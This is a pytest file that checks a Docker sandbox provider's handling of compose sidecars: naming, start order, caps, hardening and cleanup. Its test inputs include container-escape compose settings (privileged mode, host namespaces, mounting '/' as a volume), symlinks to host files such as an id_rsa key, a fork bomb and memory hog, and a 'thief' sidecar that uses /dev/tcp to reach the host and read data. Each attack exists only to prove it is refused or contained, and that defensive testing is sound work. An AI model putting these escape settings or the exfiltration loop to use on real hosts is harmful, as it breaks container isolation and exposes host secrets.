"""Compose sidecars on the docker provider, against a real engine: reachable by name on
the trial's own network, started in depends_on order, hardened and capped like main,
and gone (containers and network) when the sandbox closes, when a start fails half way,
and through `cleanup`. The refusals are attacks: each is tried against the engine and
nothing is made."""

from __future__ import annotations

import asyncio
import json
import os
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.conftest import BASE_IMAGE
from tests.helpers.host_service import HostService

from crucible.errors import SandboxFailed, TaskInvalid
from crucible.sandboxes.docker.provider import DockerProvider

pytestmark = pytest.mark.docker

SLEEPER = f"""
    image: {BASE_IMAGE}
    command: ["sleep", "infinity"]
"""


def compose(tmp_path: Path, text: str, files: dict[str, str] | None = None) -> Path:
    """environment/docker-compose.yaml (and other files of environment/) in tmp_path."""
    env = tmp_path / "environment"
    env.mkdir(exist_ok=True)
    for rel, content in (files or {}).items():
        (env / rel).parent.mkdir(parents=True, exist_ok=True)
        (env / rel).write_text(content)
    path = env / "docker-compose.yaml"
    path.write_text(textwrap.dedent(text))
    return path


@pytest.fixture
def engine() -> Iterator[Any]:
    import docker

    client = docker.from_env()
    yield client
    client.close()


def leftovers(engine: Any, trial_id: str) -> tuple[list[str], list[str]]:
    """The containers and networks that still carry the trial's label."""
    label = {"label": f"crucible.trial={trial_id}"}
    return (
        [c.name for c in engine.containers.list(all=True, filters=label)],
        [n.name for n in engine.networks.list(filters=label)],
    )


async def test_a_sidecar_is_reachable_by_name_and_goes_with_the_sandbox(
    docker_provider: DockerProvider, docker_spec: Any, engine: Any, tmp_path: Path
) -> None:
    path = compose(
        tmp_path,
        f"""
        services:
          main:
            environment:
              FROM_COMPOSE: main-env
              SHARED: compose
          db:
            image: {BASE_IMAGE}
            command: ["sleep", "infinity"]
            environment: ["DB_MODE=${{CRUCIBLE_TEST_DB_MODE:-fast}}", "LITERAL=$$HOME"]
            working_dir: /srv
            mem_limit: 256m
            pids_limit: 64
        """,
    )
    spec = docker_spec(compose_file=path, env={"SHARED": "task"}, pids_limit=128)
    box = await docker_provider.create(spec)
    try:
        assert (await box.exec("getent hosts db")).exit_code == 0
        env = (await box.exec("echo $FROM_COMPOSE $SHARED")).stdout
        assert env == "main-env task\n"  # task.toml's env wins over the compose file's
        db = box.service("db")
        assert db is not None and box.service("nothing") is None
        assert (await db.exec("getent hosts main")).exit_code == 0
        res = await db.exec("pwd; echo $DB_MODE $LITERAL")
        assert res.stdout == "/srv\nfast $HOME\n"
        # A task with no network: loopback only, in main and in the sidecar (an internal
        # Docker network would still reach the host's own addresses).
        for sb in (box, db):
            assert (await sb.exec("ls /sys/class/net")).stdout.split() == ["lo"]

        api = await docker_provider.api()
        info = api.inspect_container(db.id)  # type: ignore[attr-defined]
        hc = info["HostConfig"]
        assert hc["Memory"] == hc["MemorySwap"] == 256 << 20
        assert hc["PidsLimit"] == 64
        assert hc["Privileged"] is False and not hc["PortBindings"] and not hc["Binds"]
        assert "no-new-privileges" in hc["SecurityOpt"] and "NET_RAW" in hc["CapDrop"]
        assert info["Config"]["Labels"]["crucible.trial"] == spec.trial_id
        assert info["Config"]["Labels"]["crucible.service"] == "db"
        assert len(leftovers(engine, spec.trial_id)[0]) == 3  # main, db, the namespace's
    finally:
        await box.close()
    assert leftovers(engine, spec.trial_id) == ([], [])


async def test_a_sidecar_is_held_to_its_caps_and_hardening(
    docker_provider: DockerProvider, docker_spec: Any, tmp_path: Path
) -> None:
    caps = "    mem_limit: 96m\n    pids_limit: 40\n    init: true\n"
    path = compose(tmp_path, f"services:\n  db:{SLEEPER}{caps}")
    async with await docker_provider.create(docker_spec(compose_file=path)) as box:
        db = box.service("db")
        assert db is not None
        # no privilege to gain: no mount, no new privileges
        assert (await db.exec("mount -t tmpfs none /mnt", user="root")).exit_code != 0
        status = (await db.exec("cat /proc/self/status", user="root")).stdout
        assert "NoNewPrivs:\t1" in status
        # memory: a hog is killed by the sidecar's own limit, and the sidecar lives on
        hog = await db.exec("x=a; while :; do x=$x$x; done", timeout=60)
        assert hog.exit_code == 137 and not hog.timed_out
        # pids: a fork bomb stops at the limit, and is cleared
        bomb = await db.exec(
            "n=0; while [ $n -lt 200 ]; do sleep 600 & n=$((n+1)); done 2>/dev/null; "
            "ls -d /proc/[0-9]* | wc -l",
            timeout=60,
        )
        assert int(bomb.stdout.split()[-1] if bomb.stdout.split() else 0) <= 40
        await db.kill_all()  # init: true, so docker-init reaps what the sweep kills
        assert (await db.exec("echo alive")).stdout == "alive\n"


async def test_a_task_with_the_network_gets_a_routed_bridge(
    docker_provider: DockerProvider, docker_spec: Any, tmp_path: Path
) -> None:
    path = compose(tmp_path, f"services:\n  db:{SLEEPER}")
    async with await docker_provider.create(
        docker_spec(compose_file=path, network="public")
    ) as box:
        routes = (await box.exec("cat /proc/net/route")).stdout.splitlines()[1:]
        assert any(r.split()[1] == "00000000" for r in routes)  # a default route
        main_ip = (await box.exec("hostname -i")).stdout.split()[0]
        db = box.service("db")
        assert db is not None
        db_ip = (await db.exec("hostname -i")).stdout.split()[0]
        assert main_ip != db_ip  # containers of their own on one network, found by name
        assert (await box.exec("getent hosts db")).stdout.split()[0] == db_ip
        assert (await db.exec("getent hosts main")).stdout.split()[0] == main_ip


async def test_services_start_in_depends_on_order(
    docker_provider: DockerProvider, docker_spec: Any, tmp_path: Path
) -> None:
    # `early` takes a while to listen; `late` checks once, when it starts, that it can
    # connect. Only waiting on early's healthcheck makes that check pass.
    serve = (
        "sleep 2; "  # timing-ok: early is slow to listen on purpose (waited on by health)
        "perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(LocalPort=>7000,"
        'Listen=>5,ReuseAddr=>1) or die; open F,">/tmp/up"; close F; '
        'while($c=$s->accept){print $c "hi\\n"; close $c}\''
    )
    probe = (
        "perl -MIO::Socket::INET -e 'exit(IO::Socket::INET->new(\"early:7000\") ? 0 : 1)' "
        "&& echo reached > /tmp/saw || echo missed > /tmp/saw; exec sleep infinity"
    )
    # As YAML strings (JSON's are), with Compose's $$ for a literal $.
    serve, probe = (json.dumps(c.replace("$", "$$")) for c in (serve, probe))
    path = compose(
        tmp_path,
        f"""
        services:
          main:
            depends_on: [late]
          late:
            image: {BASE_IMAGE}
            command: ["sh", "-c", {probe}]
            depends_on:
              early:
                condition: service_healthy
              setup:
                condition: service_completed_successfully
          early:
            image: {BASE_IMAGE}
            command: ["sh", "-c", {serve}]
            healthcheck:
              test: ["CMD", "test", "-f", "/tmp/up"]
              interval: 1s
              retries: 60
          setup:
            image: {BASE_IMAGE}
            command: ["true"]
        """,
    )
    async with await docker_provider.create(docker_spec(compose_file=path)) as box:
        late = box.service("late")
        assert late is not None
        saw = await late.exec("cat /tmp/saw")
        assert saw.stdout == "reached\n"


EXITS = '["sh", "-c", "echo bad config line 7 >&2; exit 3"]'
SLEEPS = '["sleep", "infinity"]'


@pytest.mark.parametrize(
    ("condition", "command", "health", "why"),
    [
        # unhealthy after its one retry: at once
        ("service_healthy", SLEEPS, "interval: 1s, retries: 1", "is unhealthy"),
        # undecided within the start timeout (failures in start_period do not count)
        ("service_healthy", SLEEPS, "interval: 1s, start_period: 1h", "did not meet"),
        # gone before it was healthy, or failed where it had to succeed: at once, its output said
        ("service_healthy", EXITS, "interval: 1h", "exited 3 before it met service_healthy"),
        ("service_completed_successfully", EXITS, "interval: 1h", "exited 3 before it met"),
    ],
)
async def test_a_sidecar_that_misses_its_condition_fails_the_environment_and_leaves_nothing(
    docker_provider: DockerProvider,
    docker_spec: Any,
    engine: Any,
    tmp_path: Path,
    condition: str,
    command: str,
    health: str,
    why: str,
) -> None:
    path = compose(
        tmp_path,
        f"""\
services:
  main:
    depends_on:
      db: {{condition: {condition}}}
  other:{SLEEPER}
  db:
    image: {BASE_IMAGE}
    command: {command}
    healthcheck: {{test: ["CMD", "false"], {health}}}
""",
    )
    spec = docker_spec(compose_file=path, params={"compose_timeout": "4"})
    with pytest.raises(SandboxFailed) as info:
        await docker_provider.create(spec)
    assert f"compose service 'db' {why}" in info.value.message
    if command == EXITS:
        assert "bad config line 7" in info.value.message
    assert leftovers(engine, spec.trial_id) == ([], [])


async def test_waiting_on_a_health_the_service_lacks_is_task_invalid(
    docker_provider: DockerProvider, docker_spec: Any, engine: Any, tmp_path: Path
) -> None:
    path = compose(
        tmp_path,
        f"services:\n  main:\n    depends_on: {{db: {{condition: service_healthy}}}}\n"
        f"  db:{SLEEPER}",
    )
    spec = docker_spec(compose_file=path)
    with pytest.raises(TaskInvalid, match="has no healthcheck"):
        await docker_provider.create(spec)
    assert leftovers(engine, spec.trial_id) == ([], [])


async def test_a_sidecar_is_built_from_its_context(
    docker_provider: DockerProvider, docker_spec: Any, tmp_path: Path
) -> None:
    path = compose(
        tmp_path,
        """
        services:
          db:
            build:
              context: ./db
              dockerfile: db.Dockerfile
              args: {WORD: built}
            command: ["sleep", "infinity"]
        """,
        files={"db/db.Dockerfile": f"FROM {BASE_IMAGE}\nARG WORD\nRUN echo $WORD > /word\n"},
    )
    async with await docker_provider.create(docker_spec(compose_file=path)) as box:
        db = box.service("db")
        assert db is not None
        assert (await db.exec("cat /word")).stdout == "built\n"


async def test_cleanup_removes_a_compose_sandbox_left_behind(
    docker_provider: DockerProvider,
    docker_spec: Any,
    docker_job_id: str,
    engine: Any,
    tmp_path: Path,
) -> None:
    path = compose(tmp_path, f"services:\n  db:{SLEEPER}  cache:{SLEEPER}")
    public = docker_spec(compose_file=path, network="public")
    offline = docker_spec(compose_file=path)
    # never closed: a crashed run's leftovers
    boxes = [await docker_provider.create(spec) for spec in (public, offline)]
    assert [len(x) for x in leftovers(engine, public.trial_id)] == [3, 1]
    assert [len(x) for x in leftovers(engine, offline.trial_id)] == [4, 0]
    # two sandboxes: 3 containers and a network, 3 containers and the namespace's holder
    assert await docker_provider.cleanup(docker_job_id) == 2
    for spec in (public, offline):
        assert leftovers(engine, spec.trial_id) == ([], [])
    for box in boxes:
        await box.close()  # closing what cleanup removed is quiet


# -- attacks: refused before anything is made -------------------------------------------

ATTACKS = {
    "privileged": "privileged: true",
    "cap_add": "cap_add: [SYS_ADMIN]",
    "devices": 'devices: ["/dev/kmsg:/dev/kmsg"]',
    "network_mode": "network_mode: host",
    "pid": "pid: host",
    "ipc": "ipc: host",
    "ports": 'ports: ["127.0.0.1:8022:22"]',
    "security_opt": 'security_opt: ["seccomp=unconfined"]',
    "volumes_from": "volumes_from: [main]",
    "volumes[0]": 'volumes: ["/:/host"]',
    "userns_mode": "userns_mode: host",
    "sysctls": "sysctls: {net.ipv4.ip_forward: 1}",
    "unknown_field": "unknown_field: 1",
}


@pytest.mark.parametrize("field", sorted(ATTACKS))
async def test_a_sidecar_asking_for_the_host_is_refused_by_name(
    docker_provider: DockerProvider,
    docker_spec: Any,
    engine: Any,
    tmp_path: Path,
    field: str,
) -> None:
    path = compose(tmp_path, f"services:\n  db:{SLEEPER}    {ATTACKS[field]}\n")
    spec = docker_spec(compose_file=path)
    with pytest.raises(TaskInvalid) as info:
        await docker_provider.create(spec)
    assert f"services.db.{field}" in info.value.message
    assert leftovers(engine, spec.trial_id) == ([], [])


async def test_a_build_context_cannot_reach_out_of_environment(
    docker_provider: DockerProvider, docker_spec: Any, engine: Any, tmp_path: Path
) -> None:
    # A link inside environment/ to the host's root, and a plain climb out: both refused,
    # so no host file is ever sent to the engine as a build context.
    path = compose(tmp_path, "services:\n  db:\n    build: ./root\n")
    (path.parent / "root").symlink_to("/")
    for context in ("./root", "../..", "/etc"):
        path.write_text(f"services:\n  db:\n    build: {context}\n")
        spec = docker_spec(compose_file=path)
        with pytest.raises(TaskInvalid, match=r"services\.db\.build\.context"):
            await docker_provider.create(spec)
        assert leftovers(engine, spec.trial_id) == ([], [])


async def test_main_keeps_the_tasks_image(
    docker_provider: DockerProvider, docker_spec: Any, tmp_path: Path
) -> None:
    path = compose(tmp_path, "services:\n  main:\n    image: some/other:image\n")
    with pytest.raises(TaskInvalid, match=r"services\.main\.image"):
        await docker_provider.create(docker_spec(compose_file=path))


def test_the_start_timeout_is_a_checked_provider_param(caplog: pytest.LogCaptureFixture) -> None:
    for bad in ("soon", "0", "-5"):
        with pytest.raises(ValueError, match="compose_timeout"):
            DockerProvider(compose_timeout=bad)
    provider = DockerProvider(compose_timeout="12.5")
    assert provider._compose_timeout == 12.5
    assert "ignores unknown" not in caplog.text


async def test_the_compose_file_reads_only_the_host_variables_the_task_was_allowed(
    docker_provider: DockerProvider,
    docker_spec: Any,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Attack: the provider reads the compose file again at create time; a sidecar that
    names crucible's credentials (set on the host) gets none of them, and an allowed
    variable comes from what the loader allowed (spec.host_env), not the host now."""
    monkeypatch.setenv("OPENAI_API_KEY", "sk-host-openai-7f3a")
    monkeypatch.setenv("TASK_GREETING", "from-the-host-now")
    path = compose(
        tmp_path,
        f"""
        services:
          db:
            image: {BASE_IMAGE}
            command: ["sleep", "infinity"]
            environment:
              - LEAK=${{OPENAI_API_KEY:-none}}
              - OPENAI_API_KEY
              - G=${{TASK_GREETING:-unset}}
        """,
    )
    box = await docker_provider.create(
        docker_spec(compose_file=path, host_env={"TASK_GREETING": "allowed"})
    )
    try:
        db = box.service("db")
        assert db is not None
        res = await db.exec('echo "$LEAK ${OPENAI_API_KEY-absent} $G"; env')
        assert res.stdout.splitlines()[0] == "none absent allowed"
        assert "sk-host-openai-7f3a" not in res.stdout
    finally:
        await box.close()


async def test_a_sidecar_context_linking_a_host_file_is_refused_before_any_build(
    docker_provider: DockerProvider, docker_spec: Any, engine: Any, tmp_path: Path
) -> None:
    secret = tmp_path / "id_rsa"
    secret.write_text("host-secret-4b1d9e\n")
    path = compose(
        tmp_path,
        "services:\n  db:\n    build: ./db\n",
        files={"db/Dockerfile": f"FROM {BASE_IMAGE}\nCOPY key /key\n"},
    )
    (path.parent / "db" / "key").symlink_to(secret)
    spec = docker_spec(compose_file=path)
    with pytest.raises(TaskInvalid, match=r"services\.db\.build\.context: refused: .*db/key"):
        await docker_provider.create(spec)
    assert leftovers(engine, spec.trial_id) == ([], [])
    # main's own context (environment/) is checked before its build as well.
    (path.parent / "Dockerfile").write_text(f"FROM {BASE_IMAGE}\n")
    path.unlink()
    with pytest.raises(TaskInvalid, match=r"db/key: a link to an absolute path"):
        await docker_provider.create(docker_spec(dockerfile_dir=path.parent))
    assert docker_provider.images.builds_run == 0


@pytest.mark.skipif(os.geteuid() != 0, reason="the routes are written in the netns as root")
async def test_a_sidecar_cannot_reach_the_host(
    docker_provider: DockerProvider, docker_spec: Any, tmp_path: Path
) -> None:
    """A sidecar is the task author's code, with the trial's network: its command tries a
    host service on docker0's address from its first instant (through its own bridge's
    gateway, which is the host). Before, sidecars got no prohibit routes at all and read
    it; now each starts on "none" and joins the network frozen until they are in."""

    from crucible.sandboxes.hostnet import host_ipv4

    service = HostService()
    host = "172.17.0.1"
    if host not in host_ipv4():
        pytest.skip("no default docker bridge on this host")
    server, port = await service.listen(host)
    steal = (
        f"for ((i = 0; i < 3000; i++)); do if exec 3<>/dev/tcp/{host}/{port}; then"
        " head -n 1 <&3 > /tmp/stolen; break; fi; done 2>/dev/null;"
        ' echo "tried $i" > /tmp/ran; sleep infinity'
    ).replace("$", "$$")  # compose's escape: the shell's own variables
    path = compose(
        tmp_path,
        f"""
        services:
          main: {{}}
          thief:
            image: {BASE_IMAGE}
            command: ["bash", "-c", {json.dumps(steal)}]
        """,
    )
    try:
        async with await docker_provider.create(
            docker_spec(compose_file=path, network="public")
        ) as box:
            thief = box.service("thief")
            assert thief is not None
            r = await thief.exec(
                "for i in $(seq 200); do [ -e /tmp/ran ] && break; sleep 0.05; done;"  # timing-ok: bounded poll on the sidecar's file
                " cat /tmp/ran /tmp/stolen 2>/dev/null"
            )
    finally:
        server.close()
    assert r.stdout == "tried 3000\n" and service.hits == [], (service.hits, r.stdout)


async def test_a_removal_already_in_progress_is_waited_for_and_leaves_nothing(
    docker_provider: DockerProvider, docker_spec: Any, engine: Any, tmp_path: Path
) -> None:
    """Two removals race (a concurrent `cleanup`, the engine's own): the engine answers the
    second 409 "removal already in progress". That is a removal under way, not a refusal:
    close waits for it, so the sidecar and then the network are gone when it returns."""
    from tests.helpers.wait import await_until

    path = compose(tmp_path, f"services:\n  db:{SLEEPER}")
    spec = docker_spec(compose_file=path)
    box = await docker_provider.create(spec)
    db = box.service("db")
    assert db is not None
    # Many files in its writable layer: the engine takes seconds to remove it.
    fill = await db.exec("mkdir /fill && cd /fill && seq 1 60000 | xargs touch && echo done")
    assert fill.stdout == "done\n", fill
    api = engine.api
    other = asyncio.ensure_future(
        asyncio.to_thread(api.remove_container, db.id, force=True, v=True)
    )

    def removing() -> bool:
        return api.inspect_container(db.id)["State"]["Status"] == "removing"

    await await_until(removing, "the other removal to be under way")
    try:
        await box.close()
        assert leftovers(engine, spec.trial_id) == ([], [])
    finally:
        await other
